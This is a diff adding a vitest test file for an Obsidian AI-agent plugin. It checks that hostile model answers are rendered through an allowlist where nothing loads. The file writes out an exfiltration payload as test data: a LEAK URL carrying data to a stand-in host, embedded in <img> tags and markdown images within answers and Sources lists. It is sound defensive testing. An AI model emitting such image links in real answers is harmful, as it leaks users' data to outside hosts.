@@ -1,0 +1,94 @@
+// Hostile answers in the pane, as if the sidecar's own check had missed everything (it runs the
+// same corpus: tests/test_security_render.py). Every render of an answer (while it streams, the
+// checked answer, its Sources list) happens where nothing loads and goes through the allowlist
+// (src/safe-render.ts, tested on its own in tests/safe-render.test.ts) before it joins the pane.
+// The renderer here passes raw HTML through, as Obsidian's does (markdown-it with HTML on).
+import { describe, expect, it, vi } from "vitest";
+import type { AgentEvent } from "../../src/generated/contract";
+import { Component, MarkdownRenderer } from "../../stub/obsidian";
+import { HOSTILE, parsed, rendered, violations } from "../hostile-dom";
+import { done, loadPlugin } from "./helpers";
+
+const LEAK = "http://127.0.0.1:9/leak?d=4931-violet";
+
+/** Render with raw HTML passed through, recording the document each render went into. */
+function htmlRenderer(): { targets: Document[]; restore: () => void } {
+	const targets: Document[] = [];
+	const render = vi.spyOn(MarkdownRenderer, "render").mockImplementation(async (_app, markdown, el) => {
+		targets.push(el.ownerDocument);
+		el.append(...parsed(markdown));
+	});
+	return { targets, restore: () => render.mockRestore() };
+}
+
+describe("a hostile answer in the pane", () => {
+	const answer = HOSTILE.map((form) => form.markdown).join("\n\n") + "\n\nAs shown in [[Inbox/Exfil media]].";
+
+	it("is rendered where nothing loads, then shown with nothing that loads or links unsafely", async () => {
+		const { targets, restore } = htmlRenderer();
+		try {
+			const loaded = await loadPlugin([done(answer, [])]);
+			await loaded.plugin.openAskView(null);
+			await loaded.view().ask("Show me the status board note.");
+			const pane = loaded.app.sidebarEl;
+			expect(targets).toHaveLength(1);
+			expect(targets[0]).not.toBe(document); // a document without a window: nothing fetched
+			expect(pane.querySelector(".vault-agent-answer")?.children.length).toBeGreaterThan(0);
+			expect(violations(pane)).toEqual([]);
+			expect(pane.querySelector(".vault-agent-footer")?.textContent).toMatch(/remote images or tags were not loaded/);
+		} finally {
+			restore();
+		}
+	});
+
+	it("would load remote URLs if rendered as it is (the check above is not vacuous)", async () => {
+		const loaded = await loadPlugin();
+		const el = document.createElement("div");
+		await MarkdownRenderer.render(loaded.app, answer, el, "", new Component());
+		expect(violations(el).length).toBeGreaterThan(0);
+		expect(violations(rendered(answer)).length).toBeGreaterThan(50);
+	});
+
+	it("shows the Sources list through the same allowlist", async () => {
+		const { targets, restore } = htmlRenderer();
+		try {
+			const withSources = `See [[Inbox/Exfil media]].\n\nSources:\n- [[Inbox/Exfil media]] <img src="${LEAK}&via=sources">`;
+			const loaded = await loadPlugin([done(withSources, [])]);
+			await loaded.plugin.openAskView(null);
+			await loaded.view().ask("Show me the status board note.");
+			const pane = loaded.app.sidebarEl;
+			expect(targets).toHaveLength(2); // the answer, then its Sources list
+			expect(targets.every((target) => target !== document)).toBe(true);
+			expect(pane.querySelector(".vault-agent-sources")?.textContent).toContain("Inbox/Exfil media");
+			expect(violations(pane)).toEqual([]);
+			expect(pane.querySelector(".vault-agent-footer")?.textContent).toMatch(/1 remote image or tag was not loaded/);
+		} finally {
+			restore();
+		}
+	});
+
+	it("renders the streaming answer as markdown, where nothing loads, with nothing unsafe in it either", async () => {
+		const { targets, restore } = htmlRenderer();
+		try {
+			const script: AgentEvent[] = [
+				{ event: "delta", text: `**Status** ![board](${LEAK}) <img src="${LEAK}"> see [[Inbox/Exfil media]]`, turn: 1 },
+				{ event: "error", code: "model_unavailable", message: "the model went away" },
+			];
+			const loaded = await loadPlugin(script);
+			await loaded.plugin.openAskView(null);
+			const during: { bold: number; violations: string[] }[] = [];
+			loaded.client.between = async () => {
+				await new Promise((resolve) => setTimeout(resolve, 250)); // past the render throttle
+				const shown = loaded.app.sidebarEl.querySelector(".vault-agent-answer")!;
+				during.push({ bold: shown.querySelectorAll("strong").length, violations: violations(loaded.app.sidebarEl) });
+			};
+			await loaded.view().ask("Show me the status board note.");
+			expect(during[0]).toEqual({ bold: 1, violations: [] });
+			expect(targets.length).toBeGreaterThan(0);
+			expect(targets.every((target) => target !== document)).toBe(true);
+			expect(violations(loaded.app.sidebarEl)).toEqual([]);
+		} finally {
+			restore();
+		}
+	});
+});
